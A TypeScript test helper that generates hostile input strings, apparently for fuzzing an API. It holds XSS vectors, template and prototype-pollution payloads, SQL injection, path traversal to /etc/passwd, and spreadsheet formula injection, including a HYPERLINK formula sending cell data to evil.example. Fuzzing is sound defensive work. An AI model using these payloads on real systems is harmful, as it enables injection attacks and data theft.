/** Strings that break out of wherever they are put, if anything lets them. Each tries to open a dialog. */
const CALLS = [
  'alert(1)',
  'confirm`1`',
  'prompt(1)',
  'top.alert(document.domain)',
  '(alert)(1)',
  'window["al"+"ert"](1)',
];

const MARKUP = [
  (js: string) => `<script>${js}</script>`,
  (js: string) => `<ScRiPt src="https://evil.example/x.js"></ScRiPt><script>${js}//`,
  (js: string) => `"><img src=x onerror=${js}>`,
  (js: string) => `'><img src=https://evil.example/p.png onload=${js}>`,
  (js: string) => `<svg onload=${js}>`,
  (js: string) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  (js: string) => `<svg><script href="data:text/javascript,${js}"/></svg>`,
  (js: string) => `<math><mi xlink:href="javascript:${js}">点</mi></math>`,
  (js: string) => `<iframe srcdoc="<script>parent.${js}</script>">`,
  (js: string) => `<iframe src="javascript:${js}">`,
  (js: string) => `<object data="javascript:${js}">`,
  (js: string) => `<a href="javascript:${js}" autofocus onfocus=${js}>标题</a>`,
  (js: string) => `<input autofocus onfocus=${js}>`,
  (js: string) => `<details open ontoggle=${js}>`,
  (js: string) => `<body onload=${js}>`,
  (js: string) => `<style>@import "https://evil.example/x.css";*{background:url(https://evil.example/b)}</style>${js}`,
  (js: string) => `<link rel=stylesheet href=https://evil.example/x.css>${js}`,
  (js: string) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js: string) => `<base href="https://evil.example/">${js}`,
  (js: string) => `<form action="https://evil.example"><button autofocus>${js}</button></form>`,
  (js: string) => `</title><script>${js}</script>`,
  (js: string) => `</textarea><script>${js}</script>`,
  (js: string) => `--><script>${js}</script><!--`,
  (js: string) => `]]><script>${js}</script>`,
];

const TEMPLATES = [
  (js: string) => `{{constructor.constructor('${js}')()}}`,
  (js: string) => '${' + js + '}',
  (js: string) => `#{${js}}`,
  (js: string) => `<%= ${js} %>`,
  (js: string) => `{%raw%}${js}{%endraw%}`,
  (js: string) => `javascript:${js}`,
  (js: string) => `data:text/html,<script>${js}</script>`,
  (js: string) => `';${js};//`,
  (js: string) => `\\";${js};//`,
  (js: string) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  (js: string) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (js: string) => `&#x3c;img src=x onerror=${js}&#x3e;`,
  (js: string) => `{"__proto__":{"innerHTML":"${js}"}}`,
  (js: string) => `[点](javascript:${js}) ![](https://evil.example/m.png)`,
];

const FORMULAS = [
  (js: string) => `=HYPERLINK("https://evil.example/?"&A1,"${js.length}")`,
  (js: string) => `=cmd|'/C calc'!A0 ${js}`,
  (js: string) => `+SUM(1;1) ${js}`,
  (js: string) => `-2+3+${js}`,
  (js: string) => `@SUM(1+1)*${js}`,
  (js: string) => `'; DROP TABLE person; -- ${js}`,
  (js: string) => `%27%20OR%201=1 ${js}`,
];

const NAMES = [
  (js: string) => `../../../../etc/passwd ${js}`,
  (js: string) => `..\\..\\windows\\win.ini ${js}`,
  (js: string) => `file.pdf"; filename="evil.html ${js}`,
  (js: string) => `con .pdf/${js}`,
  (js: string) => `%2e%2e%2f${js}.html`,
  (js: string) => `<b>.svg ${js}`,
];

/** Letters that run the other way, join, stack, or cannot be seen. Overrides and isolates the API refuses anyway. */
const LETTERS = [
  'שלום עולם',
  'مرحبا\u200Fabc',
  'a\u200Bb\u200Cc\u200Dd\uFEFFe',
  'Z\u0351\u0351\u0351\u0351\u0351\u0351a\u034f\u034fl\u0334\u0334\u0334g\u0337o',
  '👩‍👩‍👧‍👦🏳️‍🌈🇨🇳',
  '𠮷野家㐂龘',
  'ﷺ'.repeat(20),
  'ｓｃｒｉｐｔ＞ａｌｅｒｔ',
  'İıſK',
  'x'.repeat(180),
];

/** As many as wanted, all of them different, none longer than `longest`. */
export function hostileStrings(count: number, longest: number): string[] {
  const found = new Set<string>();
  const makers = [...MARKUP, ...TEMPLATES, ...FORMULAS, ...NAMES];
  for (let turn = 0; found.size < count; turn++) {
    const letters = LETTERS[turn % LETTERS.length]!;
    for (const make of makers) {
      for (const js of CALLS) {
        const text =
          turn === 0 ? make(js) : turn % 2 ? `${letters} ${turn} ${make(js)}` : `${make(js)} ${turn} ${letters}`;
        // The API trims; what is cut keeps its whole characters.
        const kept = [...text].slice(0, longest).join('').trim();
        if (found.size < count) found.add(kept);
      }
    }
  }
  return [...found];
}
